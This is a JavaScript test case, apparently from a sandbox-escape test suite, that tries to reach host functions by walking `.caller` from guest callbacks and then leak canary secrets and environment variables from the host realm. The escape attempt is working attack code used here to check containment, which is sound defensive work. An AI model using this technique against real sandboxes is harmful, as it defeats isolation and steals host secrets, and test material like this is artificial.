/*---
id: scope-caller-chain
title: Walk fn.caller from callbacks invoked by outer code
category: scope
goal: Get a reference to an outer (host or bootstrap) function by walking `.caller` from guest callbacks that outer code invokes, then climb to its realm and leak the canaries.
technique: Sloppy functions expose `.caller`; hand guest callbacks to code outside the script (console formatting via valueOf, toJSON, Array.prototype.sort, a thenable's then called by whoever awaits the result) and walk the caller chain from inside them.
references: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Function/caller, https://tc39.es/ecma262/#sec-forbidden-extensions
expect: * = contained
---*/
// V8 gives null for strict, builtin and top-level callers: outer code written as (strict) modules should yield nothing.
const callers = [];
const own = new Set(); // the guest's own functions are not a catch
function grab() {
  try {
    for (let f = grab.caller, n = 0; f && n < 20; f = f.caller, n++) if (!own.has(f)) callers.push(f);
  } catch {} // methods, arrows and strict functions throw on .caller
  return 0;
}
function leak(where) {
  const leaked = { where, callers: callers.length };
  for (const f of callers) {
    try {
      const g = f.constructor('return globalThis')();
      if (g.__hostSecret) leaked.hostSecret = g.__hostSecret;
      if (g.process && g.process.env.WORKBENCH_CANARY) leaked.env = g.process.env.WORKBENCH_CANARY;
    } catch {}
  }
  console.log('caller chain reached:', JSON.stringify(leaked));
  return leaked;
}
console.log('%d', { valueOf: grab });
JSON.stringify({ toJSON: grab });
function cmp(a, b) {
  grab();
  return a - b;
}
[grab, leak, cmp].forEach((f) => own.add(f));
[3, 1, 2].sort(cmp);
leak('sync callbacks');
// The completion value is a thenable: the evaluator awaiting it calls then() from its own code.
const thenable = {
  then(resolve) {
    grab();
    resolve(leak('then'));
  },
};
own.add(thenable.then);
thenable;
